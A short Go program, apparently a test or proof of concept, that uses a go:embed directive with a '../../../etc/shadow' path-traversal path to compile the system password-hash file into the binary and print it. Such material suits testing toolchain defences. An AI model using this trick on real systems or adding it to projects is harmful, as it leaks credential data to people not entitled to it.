// The compiler puts a file of root's into the program, which prints it.
package main

import (
	_ "embed"
	"fmt"
)

//go:embed ../../../etc/shadow
var secret string

func main() { fmt.Println("BREACH:", secret) }
